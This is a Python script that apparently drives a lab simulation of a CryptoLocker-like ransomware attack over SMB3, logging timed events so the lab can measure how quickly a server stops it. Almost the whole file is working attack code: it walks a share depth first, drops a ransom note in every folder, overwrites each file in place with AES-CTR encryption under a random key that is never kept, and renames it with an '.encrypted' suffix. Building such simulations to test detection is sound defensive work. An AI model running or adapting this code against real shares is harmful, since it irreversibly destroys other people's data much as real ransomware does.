#!/usr/bin/python3
"""A CryptoLocker-like attack over SMB3: a ransom note per folder, each file encrypted in place, then renamed.

Environment: SMB_SERVER, SMB_SHARE, SMB_USER, SMB_PASS (set by `lab attack`);
ATTACK_MAX_FILES (default: every file); ATTACK_ROOT (folder to start in, default the share root).

Output, one line per event, flushed at once:
	start <unix-ms>
	encrypted <unix-ms of the first write> <unix-ms done> <path>
	stopped <unix-ms> <reason>           when the server no longer lets it work
	files_encrypted N
Like Windows, a dropped connection is retried (5 tries, 0.2 s apart) with the
same credentials; refusals (account disabled, access denied) stop the attack
with exit status 0: being stopped is the outcome the lab measures.
"""

import os
import sys

# The shared modules sit one folder up; leave no bytecode in the source tree.
sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))

from Cryptodome.Cipher import AES  # noqa: E402
from Cryptodome.Random import get_random_bytes  # noqa: E402
from impacket.smb3structs import FILE_READ_DATA, FILE_WRITE_DATA  # noqa: E402

from smblab import NOTE_TEXT, Client, Refused, join, ms, out  # noqa: E402

NOTE_NAME = "DECRYPT_INSTRUCTIONS.txt"
SUFFIX = ".encrypted"


class Attack:
	def __init__(self, client, limit):
		self.c = client
		self.limit = limit
		self.count = 0
		self.key = get_random_bytes(32)
		self.started = False

	def encrypt_file(self, path):
		"""Reads the whole file, writes it back encrypted through the same handle, renames it."""
		fid = self.c.conn.openFile(self.c.tid, path, desiredAccess=FILE_READ_DATA | FILE_WRITE_DATA)
		try:
			data = bytearray()
			while True:
				chunk = self.c.conn.readFile(self.c.tid, fid, len(data), 1 << 20)
				if not chunk:
					break
				data += chunk
			nonce = get_random_bytes(8)
			enc = AES.new(self.key, AES.MODE_CTR, nonce=nonce).encrypt(bytes(data))
			first = ms()
			self.c.conn.writeFile(self.c.tid, fid, enc, 0)
		finally:
			try:
				self.c.conn.closeFile(self.c.tid, fid)
			except Exception:
				pass
		self.c.conn.rename(self.c.share, path, path + SUFFIX)
		return first

	def start(self):
		if not self.started:
			self.started = True
			out(f"start {ms()}")

	def folder(self, path):
		"""Depth first: the note, this folder's files, then each subfolder."""
		if self.limit is not None and self.count >= self.limit:
			return
		files, dirs = self.c.retry(lambda: self.c.list_dir(path))
		self.start()
		self.c.retry(lambda: self.c.put(join(path, NOTE_NAME), NOTE_TEXT))
		for name in files:
			if self.limit is not None and self.count >= self.limit:
				return
			if name == NOTE_NAME or name.endswith(SUFFIX):
				continue
			fpath = join(path, name)
			first = self.c.retry(lambda fpath=fpath: self.encrypt_file(fpath), skip_missing=True)
			if first is None:
				continue
			self.count += 1
			out(f"encrypted {first} {ms()} /{fpath.replace(chr(92), '/')}")
		for name in dirs:
			self.folder(join(path, name))


def main():
	limit = os.environ.get("ATTACK_MAX_FILES")
	limit = int(limit) if limit else None
	root = os.environ.get("ATTACK_ROOT", "").strip("/\\").replace("/", "\\")
	client = Client()
	attack = Attack(client, limit)
	try:
		client.connect()
		attack.folder(root)
	except Refused as e:
		attack.start()
		out(f"stopped {ms()} {e}")
	finally:
		client.close()
	out(f"files_encrypted {attack.count}")
	return 0


if __name__ == "__main__":
	sys.exit(main())
